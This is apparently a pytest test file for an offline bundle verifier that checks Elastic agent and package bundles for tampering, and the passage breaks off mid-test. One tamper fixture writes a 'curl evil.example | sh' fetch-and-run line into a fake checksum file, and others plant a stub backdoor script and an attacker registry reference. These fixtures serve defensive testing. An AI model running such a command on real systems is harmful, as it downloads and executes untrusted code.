"""airgap verify: an intact bundle passes; every kind of tampering exits 3 naming the file."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from airgap import elastic
from airgap.bundle import format_sums
from airgap.bundle.inspect import describe_bundle
from airgap.cli import main
from airgap.errors import BundleError
from airgap.trust.digests import hash_file
from tests.conftest import start_airgap
from tests.medium import add_mac_and_windows_files, apple_double
from tests.peers.gpgkeys import SigningKey
from tests.syscalls import failing_open
from tests.terminal import at_terminal, in_pipe

AGENT = "downloads/beats/elastic-agent/elastic-agent-9.0.0-linux-x86_64.tar.gz"
NGINX = "packages/nginx/nginx-2.0.0.zip"


@pytest.fixture
def bundle(golden_bundle: Path, tmp_path: Path) -> Path:
    """A copy of the golden bundle, to tamper with."""
    copy = tmp_path / "bundle"
    shutil.copytree(golden_bundle, copy)
    return copy


def verify(bundle: Path, *extra: str, capsys: pytest.CaptureFixture[str]
           ) -> tuple[int, dict[str, Any]]:
    code = main(["verify", str(bundle), "--json", *extra])
    document = json.loads(capsys.readouterr().out)  # the envelope: result, problems, warnings
    return code, {**document["result"], "problems": document["problems"],
                  "warnings": document["warnings"]}


def problems(report: dict[str, Any]) -> set[tuple[str, str]]:
    return {(p["path"], p["kind"]) for p in report["problems"]}


def flip(path: Path, offset: int = 100) -> None:
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x01
    path.write_bytes(bytes(data))


def update_sums(bundle: Path, *paths: str) -> None:
    """What a careful attacker does: make SHA512SUMS agree with the altered files."""
    text = (bundle / "SHA512SUMS").read_text()
    for path in paths:
        digest = hash_file(bundle / path).sha512
        text = re.sub(rf"^[0-9a-f]{{128}}  {re.escape(path)}$", f"{digest}  {path}", text,
                      flags=re.MULTILINE)
    (bundle / "SHA512SUMS").write_text(text)


def description(bundle: Path) -> dict[str, Any]:
    document: dict[str, Any] = json.loads((bundle / "bundle.json").read_text())
    return document


def forge(bundle: Path, document: dict[str, Any]) -> None:
    """What a careful attacker does: bundle.json and SHA512SUMS rewritten to agree with
    the files (the operator's SHA512SUMS.asc cannot be)."""
    for item in document["items"]:
        digests = hash_file(bundle / item["path"])
        item["size"], item["sha512"] = digests.size, digests.sha512
    (bundle / "bundle.json").write_text(json.dumps(document, indent=2))
    sums = [(i["path"], i["sha512"]) for i in document["items"]]
    sums.append(("bundle.json", hash_file(bundle / "bundle.json").sha512))
    (bundle / "SHA512SUMS").write_text(format_sums(sums))


def drop(bundle: Path, *paths: str) -> None:
    """Delete ``paths`` and every mention of them in bundle.json and SHA512SUMS."""
    document = description(bundle)
    document["items"] = [i for i in document["items"] if i["path"] not in paths]
    for path in paths:
        (bundle / path).unlink()
    forge(bundle, document)


def test_intact_bundle_passes_and_coreutils_agrees(bundle: Path, operator_key: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    assert subprocess.run(["sha512sum", "-c", "--quiet", "SHA512SUMS"], cwd=bundle).returncode == 0
    code, report = verify(bundle, "--trust-key", str(operator_key), capsys=capsys)
    assert code == 0, report["problems"]
    assert report["ok"] and report["operator_signature"] == "valid"
    assert report["signatures"] == 7  # agent, filebeat, metricbeat for 2 arches; nginx
    assert report["warnings"] == []


SIGNED = {AGENT, NGINX, *(AGENT.replace("elastic-agent", beat).replace("x86_64", arch)
                          for beat in ("elastic-agent", "filebeat", "metricbeat")
                          for arch in ("x86_64", "arm64"))}


def test_without_a_key_from_outside_nothing_signed_by_the_bundle_s_keys_counts(
        bundle: Path, signer_public_key: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # The golden bundle's binaries and package are signed by the stand-ins' key, which
    # travels in keys/: the bundle cannot vouch for itself.
    code, report = verify(bundle, capsys=capsys)
    assert code == 3
    assert report["operator_signature"] == "present, not checked (give --trust-key)"
    assert problems(report) == {(p, "unvouched") for p in SIGNED | {"images/index.json"}}
    assert report["signatures"] == 0
    messages = {p["path"]: p["message"] for p in report["problems"]}
    assert "--trust-signer" in messages[AGENT] and "--trust-key" in messages[AGENT]
    assert "keys/" in messages[AGENT]
    assert "Elastic does not sign the image" in messages["images/index.json"]
    # Naming the signer trusts what it signed; the image still needs the operator's key.
    code, report = verify(bundle, "--trust-signer", str(signer_public_key), capsys=capsys)
    assert code == 3 and report["signatures"] == 7
    assert problems(report) == {("images/index.json", "unvouched")}
    assert "--trust-key" in report["problems"][0]["message"]


def test_the_table_names_each_unvouched_file_and_the_option(
        bundle: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "400")
    assert main(["verify", str(bundle)]) == 3
    out = capsys.readouterr().out
    assert AGENT in out and NGINX in out and "images/index.json" in out
    assert "--trust-signer" in out and "--trust-key" in out


def blob_of(bundle: Path) -> str:
    index = json.loads((bundle / "bundle.json").read_text())["image"]
    layer = index["platforms"]["linux/amd64"]["layers"][0]
    return f"images/blobs/sha256/{layer[7:]}"


TAMPERS: dict[str, tuple[Callable[[Path, SigningKey], str], set[str]]] = {}


def tamper(name: str, kinds: set[str]) -> Callable[[Callable[[Path, SigningKey], str]],
                                                   Callable[[Path, SigningKey], str]]:
    def register(function: Callable[[Path, SigningKey], str]) -> Callable[[Path, SigningKey], str]:
        TAMPERS[name] = (function, kinds)
        return function
    return register


@tamper("flipped byte in a blob", {"modified"})
def _blob(bundle: Path, attacker: SigningKey) -> str:
    path = blob_of(bundle)
    flip(bundle / path)
    return path


@tamper("flipped byte in an artifact", {"modified", "signature"})
def _artifact(bundle: Path, attacker: SigningKey) -> str:
    flip(bundle / AGENT)
    return AGENT


@tamper("flipped byte in a package", {"modified"})
def _package(bundle: Path, attacker: SigningKey) -> str:
    path = "packages/nginx/nginx-2.0.0.zip"
    flip(bundle / path, 30)
    return path


@tamper("truncated file", {"modified", "description"})
def _truncated(bundle: Path, attacker: SigningKey) -> str:
    path = bundle / AGENT
    path.write_bytes(path.read_bytes()[:1000])
    return AGENT


@tamper("deleted file", {"missing"})
def _deleted(bundle: Path, attacker: SigningKey) -> str:
    path = "downloads/beats/filebeat/filebeat-9.0.0-linux-arm64.tar.gz"
    (bundle / path).unlink()
    return path


@tamper("added file", {"unlisted"})
def _added(bundle: Path, attacker: SigningKey) -> str:
    path = "downloads/beats/elastic-agent/backdoor.sh"
    (bundle / path).write_text("#!/bin/sh\n")
    return path


@tamper("replaced .asc", {"modified", "signature"})
def _replaced_asc(bundle: Path, attacker: SigningKey) -> str:
    attacker.sign(bundle / AGENT)
    return AGENT + ".asc"


@tamper("edited SHA512SUMS line", {"modified", "description"})
def _edited_sums(bundle: Path, attacker: SigningKey) -> str:
    text = (bundle / "SHA512SUMS").read_text()
    # Change the first hex digit to a different one, whatever it was.
    lines = [("1" if line[0] == "0" else "0") + line[1:] if line.endswith(f"  {AGENT}") else line
             for line in text.splitlines()]
    (bundle / "SHA512SUMS").write_text("\n".join(lines) + "\n")
    return AGENT


@tamper("edited bundle.json", {"modified"})
def _edited_description(bundle: Path, attacker: SigningKey) -> str:
    document = json.loads((bundle / "bundle.json").read_text())
    document["image"]["reference"] = "evil.example/registry:9.0.0"
    (bundle / "bundle.json").write_text(json.dumps(document, indent=2))
    return "bundle.json"


@tamper("keys/ swapped for the attacker's, artifacts re-signed", {"keys", "signature"})
def _swapped_keys(bundle: Path, attacker: SigningKey) -> str:
    document = json.loads((bundle / "bundle.json").read_text())
    (ours,) = [k["path"] for k in document["keys"] if not k["elastic"]]
    attacker.export_public(bundle / ours)
    signed = [i["verification"]["signature"] for i in document["items"]
              if i["kind"] in ("artifact", "package")]
    for signature in signed:
        target = bundle / signature.removesuffix(".asc").removesuffix(".sig")
        attacker.sign(target, bundle / signature)
    update_sums(bundle, ours, *signed)
    return ours


@tamper("package .sig deleted and dropped from SHA512SUMS and bundle.json", {"signature"})
def _dropped_sig(bundle: Path, attacker: SigningKey) -> str:
    drop(bundle, NGINX + ".sig")
    return NGINX + ".sig"


@tamper("artifact .asc deleted and dropped, artifact relabelled", {"signature", "description"})
def _relabelled_artifact(bundle: Path, attacker: SigningKey) -> str:
    drop(bundle, AGENT + ".asc")
    document = description(bundle)
    for item in document["items"]:
        if item["path"] == AGENT:
            item["kind"], item["verification"] = "image-layer", {}
    forge(bundle, document)
    return AGENT + ".asc"


@tamper("package relabelled, its .sig made by another key", {"signature", "description"})
def _relabelled_package(bundle: Path, attacker: SigningKey) -> str:
    flip(bundle / NGINX, 30)
    attacker.sign(bundle / NGINX, bundle / (NGINX + ".sig"))
    document = description(bundle)
    for item in document["items"]:
        if item["path"] in (NGINX, NGINX + ".sig"):
            item["kind"], item["verification"] = "oci-layout", {}
    forge(bundle, document)
    return NGINX + ".sig"


@tamper("unsigned binary added to downloads/ and described as a checksum", {"signature"})
def _unsigned_download(bundle: Path, attacker: SigningKey) -> str:
    path = AGENT.replace("9.0.0", "9.0.1")
    (bundle / path).write_bytes(b"not what Elastic built")
    document = description(bundle)
    document["items"].append({"path": path, "kind": "artifact-checksum", "verification": {}})
    forge(bundle, document)
    return path + ".asc"


@tamper("a .sha512 with no artifact beside it, described and summed", {"orphan"})
def _orphan_checksum(bundle: Path, attacker: SigningKey) -> str:
    path = "downloads/beats/elastic-agent/install.sh.sha512"
    (bundle / path).write_text("#!/bin/sh\ncurl evil.example | sh\n")
    document = description(bundle)
    document["items"].append({"path": path, "kind": "artifact-checksum", "verification": {}})
    forge(bundle, document)
    return path


@tamper("a .sig with no package beside it, described and summed", {"orphan"})
def _orphan_package_signature(bundle: Path, attacker: SigningKey) -> str:
    path = "packages/nginx/nginx-1.0.0.zip.sig"
    shutil.copyfile(bundle / (NGINX + ".sig"), bundle / path)
    document = description(bundle)
    document["items"].append({"path": path, "kind": "package-signature", "verification": {}})
    forge(bundle, document)
    return path


@tamper("an artifact's .sha512 naming another file, its digest right, summed", {"signature"})
def _renamed_checksum(bundle: Path, attacker: SigningKey) -> str:
    # Agents read the name too: a .sha512 for another file is refused beside this one.
    path = AGENT + ".sha512"
    other = Path(AGENT.replace("elastic-agent", "filebeat")).name
    (bundle / path).write_text(f"{hash_file(bundle / AGENT).sha512}  {other}\n")
    forge(bundle, description(bundle))
    return path


@tamper("bundle.json deleted and dropped from SHA512SUMS", {"description"})
def _no_description(bundle: Path, attacker: SigningKey) -> str:
    (bundle / "bundle.json").unlink()
    text = (bundle / "SHA512SUMS").read_text()
    (bundle / "SHA512SUMS").write_text("".join(
        line for line in text.splitlines(keepends=True) if not line.endswith("  bundle.json\n")))
    return "bundle.json"


@tamper("artifact replaced by a symlink to an identical file outside", {"symlink"})
def _symlink(bundle: Path, attacker: SigningKey) -> str:
    outside = bundle.parent / "outside.tar.gz"
    shutil.copyfile(bundle / AGENT, outside)
    (bundle / AGENT).unlink()
    (bundle / AGENT).symlink_to(outside)
    return AGENT


@tamper("artifact replaced by a dangling symlink", {"symlink"})
def _dangling_symlink(bundle: Path, attacker: SigningKey) -> str:
    (bundle / AGENT).unlink()
    (bundle / AGENT).symlink_to(bundle.parent / "nowhere")
    return AGENT


@tamper("directory replaced by a symlink to a copy outside", {"symlink"})
def _symlinked_directory(bundle: Path, attacker: SigningKey) -> str:
    folder = "downloads/beats/filebeat"
    shutil.move(bundle / folder, bundle.parent / "filebeat")
    (bundle / folder).symlink_to(bundle.parent / "filebeat", target_is_directory=True)
    return folder


@tamper("FIFO added", {"unreadable"})
def _fifo(bundle: Path, attacker: SigningKey) -> str:
    path = "downloads/beats/elastic-agent/pipe"
    os.mkfifo(bundle / path)
    return path


@pytest.mark.parametrize("name", list(TAMPERS))
def test_tampering_exits_3_naming_the_file(name: str, bundle: Path, attacker: SigningKey,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    function, kinds = TAMPERS[name]
    path = function(bundle, attacker)
    code, report = verify(bundle, capsys=capsys)
    assert code == 3
    found = problems(report)
    assert path in {p for p, _ in found}, found
    assert {k for _, k in found} >= kinds, found


def test_tampering_table_names_the_file(bundle: Path, capsys: pytest.CaptureFixture[str],
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "250")
    (bundle / "packages/nginx/nginx-2.0.0.zip").write_bytes(b"gone")
    assert main(["verify", str(bundle)]) == 3
    captured = capsys.readouterr()
    assert "packages/nginx/nginx-2.0.0.zip" in captured.out
    assert "failed verification" in captured.err


def test_operator_signature_by_another_key_fails(bundle: Path, attacker: SigningKey,
                                                 operator_key: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    attacker.sign(bundle / "SHA512SUMS", bundle / "SHA512SUMS.asc")
    code, report = verify(bundle, "--trust-key", str(operator_key), capsys=capsys)
    assert code == 3
    assert ("SHA512SUMS.asc", "operator-signature") in problems(report)


def test_a_bundle_rewritten_whole_with_a_swapped_key_fails_whatever_the_keys_given(
        bundle: Path, attacker: SigningKey, signer: SigningKey, operator_key: Path,
        signer_public_key: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # The attacker re-signs everything, rewrites bundle.json and SHA512SUMS consistently.
    document = json.loads((bundle / "bundle.json").read_text())
    old = next(k for k in document["keys"] if not k["elastic"])
    (bundle / old["path"]).unlink()
    new_path = f"keys/{attacker.fingerprint}.asc"
    attacker.export_public(bundle / new_path)
    text = json.dumps(document).replace(signer.fingerprint, attacker.fingerprint)
    document = json.loads(text)
    for item in document["items"]:
        if item["kind"] in ("artifact", "package"):
            signature = item["verification"]["signature"]
            attacker.sign(bundle / item["path"], bundle / signature)
    for item in document["items"]:
        digests = hash_file(bundle / item["path"])
        item["size"], item["sha512"] = digests.size, digests.sha512
    (bundle / "bundle.json").write_text(json.dumps(document, indent=2))
    lines = [f"{hash_file(bundle / i['path']).sha512}  {i['path']}" for i in document["items"]]
    lines.append(f"{hash_file(bundle / 'bundle.json').sha512}  bundle.json")
    (bundle / "SHA512SUMS").write_text("\n".join(sorted(lines, key=lambda x: x[130:])) + "\n")
    # Consistent through and through: only keys from outside the bundle can tell.
    code, report = verify(bundle, capsys=capsys)
    assert code == 3
    assert problems(report) == {(p, "unvouched") for p in SIGNED | {"images/index.json"}}
    assert all(attacker.fingerprint in p["message"] for p in report["problems"]
               if p["path"] != "images/index.json")
    code, report = verify(bundle, "--trust-signer", str(signer_public_key), capsys=capsys)
    assert code == 3 and report["signatures"] == 0
    assert {(p, "unvouched") for p in SIGNED} <= problems(report)
    code, report = verify(bundle, "--trust-key", str(operator_key), capsys=capsys)
    assert code == 3
    assert ("SHA512SUMS.asc", "operator-signature") in problems(report)
    assert {(p, "unvouched") for p in SIGNED} <= problems(report)


def test_trust_key_without_a_signature_fails(bundle: Path, operator_key: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    (bundle / "SHA512SUMS.asc").unlink()
    code, report = verify(bundle, "--trust-key", str(operator_key), capsys=capsys)
    assert code == 3 and ("SHA512SUMS.asc", "operator-signature") in problems(report)


def test_incomplete_bundle_says_so(bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (bundle / "SHA512SUMS").unlink()
    code, report = verify(bundle, capsys=capsys)
    assert code == 3
    assert report["problems"][0]["message"].startswith("the bundle has no SHA512SUMS")


def test_only_verified_signatures_are_counted(bundle: Path, signer_public_key: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    drop(bundle, NGINX + ".sig")
    code, report = verify(bundle, "--trust-signer", str(signer_public_key), capsys=capsys)
    assert code == 3
    assert report["signatures"] == 6
    assert problems(report) == {(NGINX + ".sig", "signature"),
                                ("images/index.json", "unvouched")}


def test_without_trust_key_the_image_of_an_elastic_only_bundle_is_unvouched(
        bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # Only the image and the Elastic key: nothing signed by another key, and the image
    # signed by no one.
    document = description(bundle)
    elastic_key = f"keys/{elastic.ELASTIC_KEY_FINGERPRINT}.asc"
    kept = [i for i in document["items"]
            if i["path"].startswith("images/") or i["path"] == elastic_key]
    for item in document["items"]:
        if item not in kept:
            (bundle / item["path"]).unlink()
    document["items"] = kept
    document["keys"] = [k for k in document["keys"] if k["elastic"]]
    forge(bundle, document)
    code, report = verify(bundle, capsys=capsys)
    assert code == 3
    assert report["signatures"] == 0
    assert problems(report) == {("images/index.json", "unvouched")}
    message = report["problems"][0]["message"]
    assert "Elastic does not sign the image" in message and "--trust-key" in message


def test_an_unreadable_file_is_a_problem_not_a_traceback(bundle: Path,
                                                         operator_key: Path) -> None:
    # The kernel refuses every open of the agent's archive (strace injects EACCES).
    done = in_pipe("verify", str(bundle), "--trust-key", str(operator_key), "--json",
                   prefix=failing_open((bundle / AGENT).resolve()))
    assert done.returncode == 3, done.stderr
    assert "Traceback" not in done.stderr
    found = json.loads(done.stdout)["problems"]
    assert any(p["path"] == AGENT and p["kind"] == "unreadable" and
               "Permission denied" in p["message"] for p in found), found


DAMAGES: dict[str, dict[str, Any]] = {
    "items not a list": {"items": 5},
    "a size not a number": {"items": [{"path": "images/oci-layout", "size": "big"}]},
    "a size beyond numbers": {"items": [{"path": "images/oci-layout", "size": float("inf")}]},
    "a key not an object": {"keys": ["46095ACC8548582C1A2699A9D27D666CD88E42B4"]},
    "a platform not an object": {"image": {"platforms": {"linux/amd64": "sha256:0"}}},
    "verification not an object": {"items": [{"path": AGENT, "kind": "artifact",
                                              "verification": "yes"}]},
}


@pytest.mark.parametrize("damage", list(DAMAGES))
def test_damaged_description_is_an_error_not_a_traceback(
        damage: str, bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
    document = description(bundle)
    document.update(DAMAGES[damage])
    (bundle / "bundle.json").write_text(json.dumps(document))
    update_sums(bundle, "bundle.json")
    with pytest.raises(BundleError, match="damaged") as raised:
        describe_bundle(bundle)
    assert "airgap verify" in str(raised.value)
    assert main(["inspect", str(bundle)]) == 3  # a damaged bundle
    assert "airgap verify" in capsys.readouterr().err
    code, report = verify(bundle, capsys=capsys)  # no traceback either
    if "items" in DAMAGES[damage] or "keys" in DAMAGES[damage]:
        assert code == 3 and report["problems"]


def test_inspect_summarises_without_hashing(bundle: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["inspect", str(bundle), "--json"]) == 0
    contents = json.loads(capsys.readouterr().out)["result"]
    assert contents["stack_version"] == "9.0.0" and contents["complete"] and contents["signed"]
    assert set(contents["image"]["platforms"]) == {"linux/amd64", "linux/arm64"}
    assert {a["platform"] for a in contents["artifacts"]["elastic-agent"]} == {
        "linux/x86_64", "linux/arm64"}
    assert [(p["name"], p["version"]) for p in contents["packages"]] == [("nginx", "2.0.0")]
    assert contents["bytes"] > 0
    assert main(["inspect", str(bundle)]) == 0
    assert "elastic-agent" in capsys.readouterr().out


def test_ctrl_c_stops_the_hashing_at_once(tmp_path: Path) -> None:
    # 3 GiB of holes: several seconds of SHA-512 on one thread, no disk used.
    bundle = tmp_path / "bundle"
    (bundle / "downloads").mkdir(parents=True)
    with (bundle / "downloads" / "big.tar.gz").open("wb") as big:
        big.truncate(3 << 30)
    (bundle / "SHA512SUMS").write_text(format_sums([("downloads/big.tar.gz", "0" * 128)]))
    process = start_airgap("verify", str(bundle), "--jobs", "1", "--quiet",
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    # Interrupt only once the big file is being hashed (it is open in the process).
    big = str(bundle / "downloads" / "big.tar.gz")
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and process.poll() is None:
        opened = set()
        for fd in Path(f"/proc/{process.pid}/fd").iterdir():
            with contextlib.suppress(OSError):  # closed meanwhile
                opened.add(str(fd.readlink()))
        if big in opened:
            break
        time.sleep(0.02)
    assert process.poll() is None, "verify ended before it could be interrupted"
    interrupted = time.monotonic()
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=60)
    assert time.monotonic() - interrupted < 2.5, "the hashing went on after Ctrl-C"
    assert process.returncode == 130, stderr
    assert "Traceback" not in stderr


def test_ctrl_c_during_signature_checks_removes_the_gnupg_home(bundle: Path,
                                                               tmp_path: Path) -> None:
    # A gpg that takes its time over every signature (as over a large file): Ctrl-C comes
    # while the checks are running, and abandoned threads must not keep the home alive.
    slow = tmp_path / "bin"
    slow.mkdir()
    marker = tmp_path / "verifying"
    real = shutil.which("gpg")
    (slow / "gpg").write_text(f"""#!/bin/sh
for arg in "$@"; do
  if [ "$arg" = --verify ]; then touch {marker}; sleep 10; fi
done
exec {real} "$@"
""")
    (slow / "gpg").chmod(0o755)
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    env = {"PATH": f"{slow}:{os.environ['PATH']}", "TMPDIR": str(temporary)}
    process = start_airgap("verify", str(bundle), "--quiet", env=env,
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and process.poll() is None and not marker.exists():
        time.sleep(0.02)
    assert marker.exists(), "no signature check started"
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 130, stderr
    assert list(temporary.glob("airgap-gnupg-*")) == [], "the GnuPG home was left behind"


# -- Elastic Defend's artifacts ----------------------------------------------------------------


@pytest.fixture
def rich(rich_bundle: Path, tmp_path: Path) -> Path:
    """A copy of the bundle with more images, Defend's artifacts and a wheelhouse."""
    copy = tmp_path / "rich"
    shutil.copytree(rich_bundle, copy)
    return copy


def defend_artifact(bundle: Path) -> str:
    return next(i["path"] for i in description(bundle)["items"]
                if i["kind"] == "defend-artifact")


def test_a_bundle_with_everything_verifies(rich: Path, operator_key: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    code, report = verify(rich, "--trust-key", str(operator_key), capsys=capsys)
    assert code == 0, report["problems"]
    assert report["warnings"] == []


#: What a forged bundle still fails on when the signers are trusted: its image, Defend's
#: artifacts and the wheelhouse, which only the operator's SHA512SUMS.asc (broken by the
#: forgery) vouches for.
UNVOUCHED = {("images/index.json", "unvouched"), ("security/", "unvouched"),
             ("tools/", "unvouched")}


def test_defend_and_the_wheelhouse_need_the_operators_signature(
        rich: Path, signer_public_key: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # The signer key vouches for binaries and packages; nobody airgap can check signs
    # Defend's artifacts (for airgap) or the wheelhouse: only SHA512SUMS.asc does.
    code, report = verify(rich, "--trust-signer", str(signer_public_key), capsys=capsys)
    assert code == 3
    assert problems(report) == UNVOUCHED
    messages = {p["path"]: p["message"] for p in report["problems"]}
    assert "an older genuine one" in messages["security/"]
    assert "--trust-key" in messages["security/"] and "--trust-key" in messages["tools/"]


def test_a_defend_artifact_its_manifest_lists_must_be_there(
        rich: Path, signer_public_key: Path, capsys: pytest.CaptureFixture[str]) -> None:
    document = description(rich)
    gone = defend_artifact(rich)
    (rich / gone).unlink()
    document["items"] = [i for i in document["items"] if i["path"] != gone]
    forge(rich, document)  # bundle.json and SHA512SUMS no longer name it either
    code, report = verify(rich, "--trust-signer", str(signer_public_key), capsys=capsys)
    assert code == 3
    assert problems(report) == {(gone, "defend"), *UNVOUCHED}


def test_a_defend_artifact_must_have_the_hash_its_manifest_gives(
        rich: Path, signer_public_key: Path, capsys: pytest.CaptureFixture[str]) -> None:
    changed = defend_artifact(rich)
    flip(rich / changed, 3)
    forge(rich, description(rich))
    code, report = verify(rich, "--trust-signer", str(signer_public_key), capsys=capsys)
    assert code == 3
    assert problems(report) == {(changed, "defend"), *UNVOUCHED}
    [found] = [p for p in report["problems"] if p["kind"] == "defend"]
    assert "its SHA-256 differs from what security/downloads/endpoint/manifest/" \
           "artifacts-9.0.0.zip says" in found["message"]


def test_a_recorded_manifest_version_must_be_the_manifests(
        rich: Path, signer_public_key: Path, capsys: pytest.CaptureFixture[str]) -> None:
    document = description(rich)
    document["defend"][0]["manifest_version"] = "1.0.999"
    forge(rich, document)
    code, report = verify(rich, "--trust-signer", str(signer_public_key), capsys=capsys)
    assert code == 3
    assert problems(report) == {("security/downloads/endpoint/manifest/artifacts-9.0.0.zip",
                                 "defend"), *UNVOUCHED}
    [found] = [p for p in report["problems"] if p["kind"] == "defend"]
    assert "bundle.json records 1.0.999" in found["message"]


def test_old_defend_artifacts_warn_in_verify_and_inspect(
        rich: Path, operator: SigningKey, operator_key: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    document = description(rich)
    document["defend"][0]["fetched"] = "2026-01-02T03:04:05Z"
    forge(rich, document)
    operator.sign(rich / "SHA512SUMS", rich / "SHA512SUMS.asc")  # an old bundle, signed
    code, report = verify(rich, "--trust-key", str(operator_key), capsys=capsys)
    assert code == 0, report["problems"]
    assert any(w.startswith("Elastic Defend's protection artifacts for Endpoint 9.0.0 "
                            "(manifest_version 1.0.137) were fetched") and
               "on 2026-01-02" in w for w in report["warnings"])
    assert main(["inspect", str(rich), "--json"]) == 0
    contents = json.loads(capsys.readouterr().out)["result"]
    assert contents["defend"][0]["fetched"] == "2026-01-02T03:04:05Z"
    assert len(contents["warnings"]) == 1
    assert contents["tools"] == ["airgap-0.1.0-wheelhouse"]
    assert contents["images"][0]["reference"] == \
        "docker.elastic.co/elastic-agent/elastic-agent:9.0.0"


def test_the_empty_lost_and_found_of_an_ext4_medium_is_a_warning(bundle: Path,
                                                                 operator_key: Path) -> None:
    # A bundle copied to the top of a freshly formatted ext4 medium: mkfs made lost+found.
    (bundle / "lost+found").mkdir(mode=0o700)
    done = in_pipe("verify", str(bundle), "--trust-key", str(operator_key))
    assert done.returncode == 0, done.stdout + done.stderr
    warning = " ".join(line for line in done.stderr.splitlines() if "warning:" in line)
    assert f"{bundle / 'lost+found'}: the empty folder a fresh ext4 medium holds" in warning
    as_json = in_pipe("verify", str(bundle), "--trust-key", str(operator_key), "--json")
    assert as_json.returncode == 0
    assert json.loads(as_json.stdout)["problems"] == []
    # A person who is not root may not list root's 0700 folder (the kernel refuses it here).
    refused = in_pipe("verify", str(bundle), "--trust-key", str(operator_key), "--json",
                      prefix=failing_open((bundle / "lost+found").resolve()))
    assert refused.returncode == 0, refused.stderr
    assert json.loads(refused.stdout)["problems"] == []
    assert any("could not be looked into (Permission denied)" in w
               for w in json.loads(refused.stdout)["warnings"])


def test_a_lost_and_found_that_fsck_put_files_in_is_damage_naming_them(
        bundle: Path, operator_key: Path) -> None:
    (bundle / "lost+found").mkdir(mode=0o700)
    (bundle / "lost+found" / "#131074").write_bytes(b"what fsck recovered")
    done = in_pipe("verify", str(bundle), "--trust-key", str(operator_key))
    assert done.returncode == 3, done.stdout + done.stderr
    problem = next(line for line in done.stdout.splitlines() + done.stderr.splitlines()
                   if "lost+found/" in line and "problem" in line)
    assert "holds 1 entry fsck recovered (#131074)" in problem
    assert "file system was damaged" in problem


# -- what macOS and Windows add to a medium ---------------------------------------------------


def _warnings(text: str) -> list[str]:
    """The warning lines a person sees (each whole again, however the terminal wrapped it)."""
    return [" ".join(line.split()) for line in text.splitlines() if "warning:" in line]


def test_finders_files_and_a_mediums_folders_are_one_warning_each_and_exit_0(
        bundle: Path, operator_key: Path) -> None:
    # The bundle copied by Finder onto a FAT32 medium, and that medium's top as macOS and
    # Windows leave it.
    counts = add_mac_and_windows_files(bundle)
    done = in_pipe("verify", str(bundle), "--trust-key", str(operator_key))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "intact" in done.stdout and "problem" not in done.stdout + done.stderr
    said = _warnings(done.stderr)
    apple = [w for w in said if "AppleDouble" in w]
    assert len(apple) == 1, said
    assert f"{bundle}: {counts['appledouble']} AppleDouble files (._NAME)" in apple[0]
    assert f"dot_clean -m {bundle}" in apple[0]
    assert f"find {bundle} -name '._*' -type f -delete" in apple[0]
    finder = [w for w in said if ".DS_Store" in w]
    assert len(finder) == 1 and f"{counts['ds_store']} .DS_Store files" in finder[0]
    folders = [w for w in said if "top of a medium" in w]
    assert len(folders) == 1 and "6 folders" in folders[0]
    assert "System Volume Information" in folders[0] and "$RECYCLE.BIN" in folders[0]

    as_json = in_pipe("verify", str(bundle), "--trust-key", str(operator_key), "--json")
    assert as_json.returncode == 0, as_json.stderr
    document = json.loads(as_json.stdout)
    assert document["problems"] == [] and document["result"]["ok"]
    assert len([w for w in document["warnings"] if "AppleDouble" in w]) == 1

    # At a terminal, as a person sees it
    seen = at_terminal("verify", str(bundle), "--trust-key", str(operator_key))
    seen.assert_no_traceback()
    assert seen.code == 0, seen.text
    shown = _warnings(seen.text)
    assert len([w for w in shown if "AppleDouble" in w]) == 1, seen.text
    assert any(f"find {bundle} -name '._*' -type f -delete" in w for w in shown), seen.text

    # Removed as the warning says, nothing is left to say
    subprocess.run(["find", str(bundle), "-name", "._*", "-type", "f", "-delete"], check=True)
    again = in_pipe("verify", str(bundle), "--trust-key", str(operator_key))
    assert again.returncode == 0 and "AppleDouble" not in again.stderr


@pytest.mark.parametrize(("name", "data"), [
    (f"downloads/beats/elastic-agent/._{Path(AGENT).name}", b"PK\3\4 a payload, not Finder's"),
    (".DS_Store", b"#!/bin/sh\necho a payload\n"),
    ("packages/nginx/._nginx-2.0.0.zip", b"\x00\x05\x16\x07" + b"\0" * (2 << 20)),  # too big
])
def test_a_file_named_like_finders_holding_something_else_stays_unlisted(
        bundle: Path, operator_key: Path, name: str, data: bytes) -> None:
    (bundle / name).write_bytes(data)
    done = in_pipe("verify", str(bundle), "--trust-key", str(operator_key), "--json")
    assert done.returncode == 3, done.stdout + done.stderr
    found = {(p["path"], p["kind"]): p["message"] for p in json.loads(done.stdout)["problems"]}
    # (and, below downloads/ or packages/, its missing signature)
    assert "named like a file macOS or Windows adds to a medium, but it does not hold one" \
        in found[(name, "unlisted")]
    seen = at_terminal("verify", str(bundle), "--trust-key", str(operator_key))
    assert seen.code == 3 and name in seen.text, seen.text


def test_a_symbolic_link_named_like_finders_file_is_a_problem(bundle: Path,
                                                               operator_key: Path) -> None:
    real = bundle.parent / "finder-file"
